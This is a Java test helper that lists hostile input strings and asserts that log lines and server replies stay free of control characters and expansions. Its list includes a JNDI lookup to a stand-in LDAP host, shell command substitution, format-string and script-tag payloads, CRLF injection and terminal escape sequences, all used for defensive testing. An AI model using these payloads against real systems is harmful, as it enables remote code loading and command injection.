package org.postern.testkit;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;

/// S32: words that a log, a terminal, a format or a shell would act on, and what may become of
/// them.
public final class HostileWords {
    /// Each character an octet, as they go over a wire.
    public static final List<String> ALL =
            List.of(
                    "${jndi:ldap://far.example/a}",
                    "${env:PATH}",
                    "%n%s%x%1$s",
                    "{}{0}",
                    "{\"seq\":1,\"event\":\"accepted\"}",
                    "`id`$(id)",
                    "<script>x</script>",
                    "=?utf-8?q?=0D=0Ax?=",
                    "\\r\\n\\u000a\\x1b",
                    "\u001B]0;x\u0007",
                    "\u001B[2J",
                    "a\bb\tc",
                    "a\u0000b",
                    utf8("a\u202Etxt.exe"),
                    utf8("a\u2066b\u2028c\u0085d\uFEFF"),
                    "\u009B31m");

    private static final int CONTROL_END = 0x20;
    private static final int DELETE = 0x7F;

    private HostileWords() {}

    /// Whether a line would do something where it is shown: it ends twice, or turns or moves what
    /// is shown.
    public static void assertHarmless(String line) {
        String text = line.endsWith("\n") ? line.substring(0, line.length() - 1) : line;
        assertTrue(
                text.codePoints()
                        .noneMatch(c ->
                                Character.isISOControl(c)
                                        || Character.getType(c) == Character.FORMAT
                                        || Character.getType(c) == Character.LINE_SEPARATOR
                                        || Character.getType(c) == Character.PARAGRAPH_SEPARATOR),
                () -> "in " + shown(text));
        // What an expansion would have put there.
        String path = String.valueOf(System.getenv("PATH"));
        assertFalse(path.length() > 1 && text.contains(path), () -> "expanded: " + shown(text));
    }

    /// What a server says: lines of printable ASCII.
    public static void assertHarmlessReplies(String said) {
        for (String line : said.split("\r\n", -1)) {
            assertTrue(
                    line.chars().allMatch(c -> c >= CONTROL_END && c < DELETE),
                    () -> "said " + shown(line));
        }
    }

    private static String shown(String text) {
        StringBuilder shown = new StringBuilder();
        text.chars()
                .forEach(c -> {
                    if (c >= CONTROL_END && c < DELETE) {
                        shown.append((char) c);
                    } else {
                        shown.append("\\u").append(Integer.toHexString(0x10000 + c).substring(1));
                    }
                });
        return shown.toString();
    }

    private static String utf8(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }
}
